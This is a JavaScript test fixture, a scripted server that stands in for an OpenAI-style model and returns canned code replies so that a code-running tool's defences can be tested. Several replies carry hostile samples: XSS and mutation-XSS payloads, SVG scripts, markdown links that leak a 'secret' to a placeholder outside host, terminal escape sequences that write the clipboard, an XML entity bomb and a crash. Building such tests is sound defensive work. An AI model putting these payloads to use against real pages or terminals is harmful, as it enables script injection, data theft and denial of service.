// A model that says what a test wants: a server with the format of OpenAI, whose replies are chosen by the task.
import { createServer } from 'node:http';
import { tricks } from './tricks.mjs';

const fence = (thought, code) => `${thought}\n\n\`\`\`python\n${code}\n\`\`\``;

/** What a program shows to get out of its frame: scripts, events, parsers that are led astray, loads of all kinds (E7). */
const HOSTILE_HTML = [
  "<script>top.owned = 1; top.document.title = 'owned'; fetch('OUTSIDE/script')</script>",
  "<meta http-equiv='refresh' content='0;url=OUTSIDE/refresh'>",
  "<base href='OUTSIDE/'><link rel='stylesheet' href='OUTSIDE/style'><link rel='prefetch' href='OUTSIDE/prefetch'>",
  "<style>@import 'OUTSIDE/import'; @font-face { font-family: f; src: url(OUTSIDE/font) } p { font-family: f; background: url(OUTSIDE/background) }</style>",
  "<img src='OUTSIDE/image' onerror='top.owned = 2'><video src='OUTSIDE/video' autoplay></video><object data='OUTSIDE/object'></object>",
  "<select><iframe></select><img src=x onerror='top.owned = 3'></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=top.owned=4&gt;'>",
  "<iframe src='OUTSIDE/frame'></iframe><embed src='OUTSIDE/embed'><p onclick='top.owned = 5'>bold <b>move</b></p>",
  "<a href='OUTSIDE/link'>same frame</a> <a href='OUTSIDE/top' target='_top'>whole page</a> <a href='OUTSIDE/new' target='_blank'>new page</a>",
  "<form action='OUTSIDE/form'><button>send</button></form>",
].join('');
const HOSTILE_SVG =
  "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 200 60' onload='top.owned = 6'><script>top.owned = 7</script>" +
  "<image href='OUTSIDE/svg'/><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='OUTSIDE/foreign'/></foreignObject>" +
  "<rect width='200' height='60' rx='8' fill='teal'/></svg>";
/** A value as Python writes it; what is not ASCII by its number. */
const python = (text) => JSON.stringify(text);

/** What is said to a task that has this word in it, reply after reply. */
const SCRIPTS = {
  region: [
    fence(
      'First I look at the file.',
      "import pandas as pd\nsales = pd.read_csv('sales.csv')\nprint(len(sales), 'rows')\nsales.head()",
    ),
    fence(
      'Now the sums by region.',
      "import sys\ntotals = sales.groupby('region')['amount'].sum().sort_values(ascending=False)\nprint('checked', file=sys.stderr)\nprint(totals.to_string())\nprint('all', totals.sum())\ntotals.reset_index()",
    ),
    fence(
      'A plot makes the difference clear.',
      "import matplotlib.pyplot as plt\nplt.style.use('default')\nfig, ax = plt.subplots(figsize=(7, 3.6))\nax.bar(totals.index, totals.values, color=['#1d7a6d', '#5aa79b', '#9ccbc2', '#c8772e'][:len(totals)])\nax.set_ylabel('amount')\nax.spines[['top', 'right']].set_visible(False)\nfig.savefig('sales-by-region.png', dpi=110)\ntotals.to_csv('totals.csv')\nprint('saved sales-by-region.png')",
    ),
    'FINAL: **North** sold most: 41873 of 98214 in all.\n\n- North: 41873\n- South: 27150\n\nThe plot is in `sales-by-region.png`.',
  ],
  six: [fence('A small computation.', 'product = 6 * 7\nprint(product)'), 'FINAL: It is 42.'],
  squares: [
    fence(
      'A sum of squares.',
      "numbers = [1, 2, 3]\ntotal = sum(n ** 2 for n in numbers)\nprint('count', len(numbers))\nprint('total', total)",
    ),
    'FINAL: - count: 3\n- total: 14',
  ],
  cubes: [
    fence(
      'A sum of cubes.',
      "numbers = [1, 2, 3]\ntotal = sum(n ** 3 for n in numbers)\nprint('count', len(numbers))\nprint('total', total)",
    ),
    'FINAL: - count: 3\n- total: 36',
  ],
  double: [fence('The variable is still there.', "print('double', 2 * product)"), 'FINAL: The double is 84.'],
  thrice: [fence('Another way from the same state.', "print('thrice', 3 * product)"), 'FINAL: Thrice it is 126.'],
  // The digits of an answer are not its number.
  million: [fence('A count.', "rows = [1] * 48\nprint('rows', len(rows))"), 'FINAL: There are 48 million rows.'],
  slow: [
    fence(
      'This takes a while.',
      "import time\nfor number in range(1000):\n    print('line', number, flush=True)\n    time.sleep(0.1)",
    ),
    fence('It was interrupted; I print less.', "print('short', 12345)"),
    'FINAL: The number is 12345.',
  ],
  printing: [
    fence(
      'This prints a lot.',
      "import time\nfor number in range(150):\n    print('line', number, flush=True)\n    time.sleep(0.04)",
    ),
    'FINAL: Printed 150 lines.',
  ],
  // It never ends, and no step is the one before.
  Watch: (turn) =>
    fence(
      `Part ${turn}.`,
      `import time, pandas as pd\nfor number in range(400):\n    print(${turn}, number, 'a line of output that says nothing', flush=True)\n    time.sleep(0.05)\npd.DataFrame({'n': range(${turn}, ${turn} + 50)})`,
    ),
  remove: [fence('I clean up.', "import os\nos.remove('sales.csv')"), 'FINAL: It is gone.'],
  crash: [
    fence('I keep a value.', 'kept = 4217\nprint(kept)'),
    fence('Now something dangerous.', 'import ctypes\nctypes.string_at(0)'),
    fence('One with an error.', 'print(missing_name + 1)'),
    fence('And one with an exception.', "{}['absent']"),
    fence('The state was restored, so the value is still there.', "print('still', kept)"),
    'FINAL: The value is still 4217.',
  ],
  // Commands to a terminal: clipboard, links, device control, 8-bit ones, a line that is written over (E5).
  escapes: [
    fence(
      'Output that commands a terminal.',
      "print('\\x1b]52;c;ZXZpbA==\\x07\\x1b[31mred\\x1b[0m \\x1b]8;;http://evil.example/\\x07link\\x1b]8;;\\x07 \\x1bP1$qm\\x1b\\\\dcs')\n" +
        "print('\\x9b31meight\\x9d52;c;ZXZpbA==\\x9c bits', '\\x00nul\\x08\\x7f')\n" +
        "print('password: secret\\rharmless line 42  ')",
    ),
    'FINAL: \u001b[31mIt is 42.\u001b]52;c;ZXZpbA==\u0007',
  ],
  // What is read is not what runs (E6, L5).
  tricks: [...tricks.map((trick) => fence(`With ${trick.name}.`, trick.code)), 'FINAL: It is done.'],
  hostile: [
    fence(
      'Output that attacks the page.',
      `class Page:\n    def _repr_html_(self):\n        return ${python(HOSTILE_HTML)}\n` +
        `class Drawing:\n    def _repr_svg_(self):\n        return ${python(HOSTILE_SVG)}\n` +
        "class Words:\n    def _repr_markdown_(self):\n        return '![x](OUTSIDE/markdown?d=secret) <img src=OUTSIDE/raw> [link](javascript:top.owned=8) words 42'\n" +
        'display(Page())\ndisplay(Drawing())\ndisplay(Words())\nprint(42)',
    ),
    'FINAL: ![x](OUTSIDE/answer?d=secret) <img src=OUTSIDE/raw> [link](javascript:top.owned=9) done 42.',
  ],
  // A picture of ten thousand million points, entities that grow, ten thousand displays (E9).
  heavy: [
    fence(
      'Output that is too much.',
      'import struct, zlib\n' +
        "def chunk(kind, data):\n    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n" +
        "head = struct.pack('>IIBBBBB', 100_000, 100_000, 8, 2, 0, 0, 0)\n" +
        "picture = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', head) + chunk(b'IDAT', zlib.compress(bytes(10**6))) + chunk(b'IEND', b'')\n" +
        'class Picture:\n    def _repr_png_(self):\n        return picture\n' +
        'entities = \'\'.join(f\'<!ENTITY e{n} "{("&e" + str(n - 1) + ";") * 10}">\' for n in range(1, 12))\n' +
        'bomb = f\'<!DOCTYPE svg [<!ENTITY e0 "lol">{entities}]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text>&e11;</text></svg>\'\n' +
        'class Bomb:\n    def _repr_svg_(self):\n        return bomb\n' +
        'display(Picture())\ndisplay(Bomb())\nfor number in range(10_000):\n    display({"number": number})\nprint(42)',
    ),
    'FINAL: It is 42.',
  ],
};
const OTHER = [fence('I look.', "print('hello', 99)"), 'FINAL: It said 99.'];

const textOf = (content) =>
  typeof content === 'string' ? content : (content ?? []).map((part) => part.text ?? '').join('');

/** `outside` is the address of whoever stands for the world that hostile output wants to reach. */
export function startModel({ port = 0, delay = 15, outside = 'http://127.0.0.1:9' } = {}) {
  // What was said long ago is not in the conversation any more.
  let [tricksSaid, said] = [0, 0];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (part) => (body += part));
    request.on('end', () => {
      const { messages = [], stream } = JSON.parse(body || '{}');
      // Before the task there may be an example of how a model is to write; after it come its own turns. What follows
      // the first line is of files and of an earlier run.
      const task = messages.findLastIndex(
        (message) => message.role === 'user' && textOf(message.content).startsWith('Task: '),
      );
      const [asked] = textOf(messages[task]?.content).split('\n');
      const word = Object.keys(SCRIPTS).find((one) => asked.includes(one));
      const own = messages.slice(task + 1).filter((message) => message.role === 'assistant').length;
      const turns = word === 'tricks' ? tricksSaid++ : own;
      const script = SCRIPTS[word] ?? OTHER;
      const text = typeof script === 'function' ? script(said++) : (script[turns] ?? script.at(-1));
      answer(response, text.replaceAll('OUTSIDE', outside), stream, delay);
    });
  });
  return new Promise((resolve) => {
    server.listen(port, '127.0.0.1', () =>
      resolve({
        url: `http://127.0.0.1:${server.address().port}/v1`,
        close: () => (server.closeAllConnections(), server.close()),
      }),
    );
  });
}

async function answer(response, text, stream, delay) {
  const usage = { prompt_tokens: 900, completion_tokens: Math.ceil(text.length / 4), total_tokens: 0 };
  if (!stream) {
    response.setHeader('content-type', 'application/json');
    response.end(
      JSON.stringify({ choices: [{ message: { role: 'assistant', content: text }, finish_reason: 'stop' }], usage }),
    );
    return;
  }
  response.setHeader('content-type', 'text/event-stream');
  const say = (value) =>
    response.write(
      `data: ${JSON.stringify({ id: 'one', object: 'chat.completion.chunk', model: 'scripted', ...value })}\n\n`,
    );
  const letters = [...text];
  for (let at = 0; at < letters.length; at += 9) {
    say({ choices: [{ index: 0, delta: { content: letters.slice(at, at + 9).join('') } }] });
    if (delay) await new Promise((resolve) => setTimeout(resolve, delay));
  }
  say({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] });
  say({ choices: [], usage });
  response.end('data: [DONE]\n\n');
}

if (process.argv[1]?.endsWith('scripted-model.mjs')) {
  const model = await startModel({ port: Number(process.argv[2] ?? 8080), delay: Number(process.argv[3] ?? 15) });
  console.log(`a scripted model listens on ${model.url}`);
}
